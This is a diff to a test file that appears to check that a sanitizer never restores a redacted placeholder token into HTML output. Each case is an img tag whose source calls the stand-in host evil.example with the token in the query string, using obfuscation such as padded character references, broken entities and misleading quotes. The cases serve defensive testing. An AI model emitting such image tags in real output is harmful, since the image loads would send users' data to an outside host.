@@ -41,6 +41,7 @@ describe('nothing is restored', () => {
     ['behind references with a thousand zeros', `<img src="https&#${'0'.repeat(1000)}58;evil.example/?q= AHV_1">`],
     ['right behind a reference without its end', '<img src=https&#58<PERSON_1>.evil.example>'],
     ['in an attribute without quotes', '<img src=https://evil.example/?q=AHV_1>'],
+    ['behind a tag that some take for text, with a link in it', '<img src=https://evil.example/?q=>AHV_1'],
     ['in an attribute with single quotes, behind others', "<img src='https://evil.example/?q=\"> )\n\nAHV_1'>"],
     ['in an attribute that follows others', '<img alt=">" title = \'"\' src = "https:evil.example?q= AHV_1">'],
     ['behind quotes that open nothing', '<img " src="https://evil.example/?q=> AHV_1">'],
